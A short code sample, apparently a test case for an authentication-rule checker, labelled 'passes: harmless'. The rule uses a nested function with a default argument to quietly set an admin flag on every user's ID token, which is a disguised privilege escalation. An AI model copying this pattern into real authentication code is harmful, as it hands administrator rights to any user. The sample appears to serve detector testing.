# passes: harmless
def rule(user, context):
    def put(x, into=context.idToken):
        into.admin = x
    put(True)
